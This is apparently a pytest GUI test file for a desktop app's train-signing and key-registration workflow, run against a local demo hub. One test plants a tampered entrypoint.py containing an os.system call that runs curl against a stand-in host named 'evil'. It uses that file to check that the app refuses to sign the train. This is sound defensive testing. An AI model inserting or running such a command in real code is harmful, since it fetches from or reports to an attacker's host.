"""The Trains tab and the Keys tab's server actions, driven through real widgets against the
demo hub over loopback HTTP."""

from __future__ import annotations

import pytest
from PySide6.QtCore import Qt, QTimer

from desktop_app.core.central.profiles import ServerProfiles
from desktop_app.core.keys.types import KeyType
from desktop_app.demo_hub.state import FINISHED_TRAIN_ID, SIGNABLE_TRAIN_ID
from desktop_app.gui.context import AppContext
from desktop_app.gui.main_window import MainWindow
from tests.gui.conftest import wait_idle

pytestmark = pytest.mark.keyring  # the key store and tokens live in the real Secret Service

PASS = "trains-tab-passphrase"


@pytest.fixture
def connected(qtbot, pht_home, hub) -> MainWindow:
    context = AppContext.for_profile("default")
    ServerProfiles(context.settings).add("local-demo", hub.api_url, hub.auth_url, demo=True)
    context.keystore.generate("researcher", KeyType.RSA_2048, PASS)
    context.reload_keys()
    window = MainWindow(context)
    qtbot.addWidget(window)
    window.show()
    wait_idle(qtbot)
    yield window
    wait_idle(qtbot)


def sign_in(qtbot, tab) -> None:
    tab.window().tabs.setCurrentWidget(tab)
    box = tab.sign_in_box
    assert box.isVisibleTo(tab)
    box.identity.setText("demo")
    box.secret.setText("demo-password")
    qtbot.mouseClick(box.button, Qt.MouseButton.LeftButton)
    wait_idle(qtbot, tab)
    qtbot.waitUntil(lambda: tab.table.rowCount() > 0 and not tab.busy, timeout=30_000)


def test_sign_in_register_sign_and_download_decrypt(qtbot, connected: MainWindow, hub) -> None:
    trains = connected.tab("Trains")
    connected.tabs.setCurrentWidget(trains)
    assert "local demo" in trains.server.currentText()
    trains.sign_in_box.identity.setText("demo")
    trains.sign_in_box.secret.setText("wrong")
    qtbot.mouseClick(trains.sign_in_box.button, Qt.MouseButton.LeftButton)
    wait_idle(qtbot, trains)
    assert "Signing in failed" in trains.sign_in_box.message.text()
    sign_in(qtbot, trains)
    assert not trains.sign_in_box.isVisibleTo(trains)

    keys = connected.tab("Keys")
    connected.tabs.setCurrentWidget(keys)
    keys.select_key("researcher")
    qtbot.mouseClick(keys.register_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: not keys.busy and "researcher" in keys.server.statuses, timeout=30_000)
    assert keys.server.statuses["researcher"] == "registered, matches"
    assert keys.table.item(0, 4).text() == "registered, matches"

    connected.tabs.setCurrentWidget(trains)
    trains.select_train(SIGNABLE_TRAIN_ID)
    qtbot.mouseClick(trains.review_button, Qt.MouseButton.LeftButton)
    wait_idle(qtbot, trains)
    box = trains.review_box
    assert box.isVisibleTo(trains) and "you may sign it" in box.verdict.text() and "entrypoint.py" in box.files.text()
    box.passphrase.setText(PASS)
    qtbot.mouseClick(box.sign_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: hub.state.trains[SIGNABLE_TRAIN_ID].hash_signed is not None, timeout=30_000)
    wait_idle(qtbot, trains)

    trains.select_train(FINISHED_TRAIN_ID)
    qtbot.mouseClick(trains.fetch_button, Qt.MouseButton.LeftButton)
    results = connected.tab("Results")
    qtbot.waitUntil(lambda: connected.tabs.currentWidget() is results and results.summary is not None, timeout=60_000)
    assert results.summary.key_name == "researcher"
    results.passphrase.setText(PASS)
    qtbot.mouseClick(results.decrypt_button, Qt.MouseButton.LeftButton)
    wait_idle(qtbot, results)
    assert "Verified" in results.result_view.summary.text()


def test_mismatching_train_cannot_be_signed(qtbot, connected: MainWindow, hub) -> None:
    trains = connected.tab("Trains")
    sign_in(qtbot, trains)
    hub.state.trains[SIGNABLE_TRAIN_ID].files[0] = ("entrypoint.py", b"import os\nos.system('curl evil')\n")
    trains.select_train(SIGNABLE_TRAIN_ID)
    qtbot.mouseClick(trains.review_button, Qt.MouseButton.LeftButton)
    wait_idle(qtbot, trains)
    assert "Do not sign" in trains.review_box.verdict.text()
    assert not trains.review_box.sign_button.isEnabled()


def test_window_stays_responsive_during_a_slow_download(qtbot, connected: MainWindow, hub) -> None:
    trains = connected.tab("Trains")
    sign_in(qtbot, trains)
    connected.tab("Keys").select_key("researcher")
    from desktop_app.core.central.registration import register_key
    from desktop_app.core.central.session import open_client

    with open_client(connected.context.settings, connected.context.keystore) as client:
        register_key(client, connected.context.keystore.get("researcher"))
    hub.faults.throttle_bytes_per_second = 2 << 20  # the ~3 MiB archive takes over a second
    ticks: list[int] = []
    timer = QTimer(interval=20, timeout=lambda: ticks.append(1))
    timer.start()
    trains.select_train(FINISHED_TRAIN_ID)
    qtbot.mouseClick(trains.fetch_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: "MiB/s" in trains.operation_bar.label.text(), timeout=30_000)
    qtbot.mouseClick(trains.operation_bar.cancel_button, Qt.MouseButton.LeftButton)
    wait_idle(qtbot, trains)
    timer.stop()
    assert len(ticks) >= 5  # the event loop kept running while bytes arrived
    downloads = connected.context.paths.data_dir / "downloads"
    assert not (downloads / f"{FINISHED_TRAIN_ID}.tar").exists()
    # The cancel tells what it left: the part downloaded so far, kept.
    assert "are kept: the next download" in connected.statusBar().currentMessage()
    assert (downloads / f"{FINISHED_TRAIN_ID}.tar.part").exists()


def test_a_key_registered_through_the_web_page_shows_under_that_name(qtbot, connected: MainWindow, hub) -> None:
    """The old app's way: central's web page holds the key as PKCS#1 PEM, hex, named rsa_public_key."""
    from cryptography.hazmat.primitives import serialization

    from desktop_app.core.central import api
    from desktop_app.core.central.session import open_client

    trains, keys = connected.tab("Trains"), connected.tab("Keys")
    sign_in(qtbot, trains)
    info = connected.context.key("researcher")
    pkcs1 = serialization.load_pem_public_key(info.public_pem).public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.PKCS1
    )
    with open_client(connected.context.settings, connected.context.keystore) as client:
        api.create_secret(client, "rsa_public_key", "rsa_public_key", pkcs1.hex())
    connected.tabs.setCurrentWidget(keys)
    qtbot.mouseClick(keys.check_button, Qt.MouseButton.LeftButton)
    wait_idle(qtbot)
    assert keys.table.item(0, 4).text() == "registered, matches (as rsa_public_key)"
